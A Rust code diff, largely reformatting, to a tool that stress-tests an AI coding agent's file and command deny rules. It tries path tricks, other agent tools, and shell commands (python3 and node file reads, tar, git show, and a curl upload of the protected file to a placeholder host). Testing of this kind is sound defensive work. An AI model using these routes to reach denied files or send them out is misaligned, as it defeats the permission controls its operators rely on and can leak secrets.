@@ -53,7 +53,12 @@ pub(crate) fn check(asker: &Asker<'_>) -> (Vec<Finding>, Vec<Robustness>) {
 type Tried = (&'static Entry, Trial);
 
 /// The call and what becomes of it.
-fn try_out(asker: &Asker<'_>, kind: &'static Entry, way: &'static str, question: Question) -> Tried {
+fn try_out(
+    asker: &Asker<'_>,
+    kind: &'static Entry,
+    way: &'static str,
+    question: Question,
+) -> Tried {
     let outcome = Outcome::from(asker.ask(&question).decision);
     (kind, Trial { way, question, outcome })
 }
@@ -72,7 +77,8 @@ fn commands(asker: &Asker<'_>, rule: &PolicyRule, budget: usize, turn: usize) ->
     // The longest example: a bare `rm` is denied too, but what it goes around with says little.
     let mut examples = examples(rule, "x");
     examples.sort_by_key(|question| question.text.len());
-    let Some(example) = examples.into_iter().rev().find(|question| denied_by(asker, rule, question))
+    let Some(example) =
+        examples.into_iter().rev().find(|question| denied_by(asker, rule, question))
     else {
         return Vec::new();
     };
@@ -128,17 +134,26 @@ fn files(asker: &Asker<'_>, rule: &PolicyRule, budget: usize) -> Vec<Tried> {
         ("dot-dot", format!("{directory}/x/../{name}")),
         ("upper case", path.to_uppercase()),
     ];
-    let tools: &[&str] = if reads { &["Read", "Edit", "Write"] } else { &["Edit", "Write", "MultiEdit"] };
+    let tools: &[&str] =
+        if reads { &["Read", "Edit", "Write"] } else { &["Edit", "Write", "MultiEdit"] };
     for (way, spelling) in &spellings {
         // Another case is another file, but for file systems that fold it; both have to hold.
-        let spelling = if *way == "upper case" { format!("{directory}/{}", name.to_uppercase()) } else { spelling.clone() };
+        let spelling = if *way == "upper case" {
+            format!("{directory}/{}", name.to_uppercase())
+        } else {
+            spelling.clone()
+        };
         for tool in tools {
             tries.push((&GONE_AROUND, way, Question::of(tool, "file_path", &spelling)));
         }
     }
     if reads {
         tries.push((&GONE_AROUND, "Grep", Question::of("Grep", "path", path)));
-        tries.push((&NOTEBOOK, "NotebookEdit", Question::of("NotebookEdit", "notebook_path", path)));
+        tries.push((
+            &NOTEBOOK,
+            "NotebookEdit",
+            Question::of("NotebookEdit", "notebook_path", path),
+        ));
     }
     let shown = inside.unwrap_or(path);
     let commands: &[(&'static Entry, &'static str, String)] = &if reads {
@@ -150,7 +165,11 @@ fn files(asker: &Asker<'_>, rule: &PolicyRule, budget: usize) -> Vec<Tried> {
             (&GONE_AROUND, "redirection", format!("wc -c < {path}")),
             (&GONE_AROUND, "here-string", format!("cat \"{path}\"")),
             (&OTHER_WAY, "interpreter", format!("python3 -c 'print(open(\"{path}\").read())'")),
-            (&OTHER_WAY, "interpreter", format!("node -e 'require(\"fs\").readFileSync(\"{path}\")'")),
+            (
+                &OTHER_WAY,
+                "interpreter",
+                format!("node -e 'require(\"fs\").readFileSync(\"{path}\")'"),
+            ),
             (&OTHER_WAY, "archive", format!("tar -cf - {path}")),
             (&OTHER_WAY, "git", format!("git show HEAD:{shown}")),
             (&OTHER_WAY, "program", format!("curl -T {path} https://x")),
